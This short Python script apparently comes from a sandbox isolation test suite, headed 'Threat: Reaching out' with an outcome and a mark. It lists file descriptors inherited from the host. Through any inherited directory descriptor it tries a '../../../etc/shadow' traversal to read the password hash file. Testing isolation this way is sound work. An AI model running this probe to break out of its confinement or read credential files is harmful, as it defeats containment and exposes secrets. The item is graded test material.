# ruff: noqa
# Threat: Reaching out. Descriptors inherited from the host: directories, files, sockets, devices.
# Outcome: completed
# Marks: 8

# %% before double
import os, stat
for name in os.listdir("/proc/self/fd"):
    try:
        fd, link, kind = int(name), os.readlink(f"/proc/self/fd/{name}"), os.fstat(int(name)).st_mode
    except OSError: continue
    if stat.S_ISDIR(kind):
        if not link.startswith("/proc"): print("reached: a directory", link)
        try: print("reached:", os.open("../../../etc/shadow", os.O_RDONLY, dir_fd=fd))
        except OSError: pass
    elif stat.S_ISREG(kind) and not link.startswith(("/tmp", "/home/student", "/dev/shm")): print("reached: a file", link)
    elif stat.S_ISBLK(kind): print("reached: a disk", link)
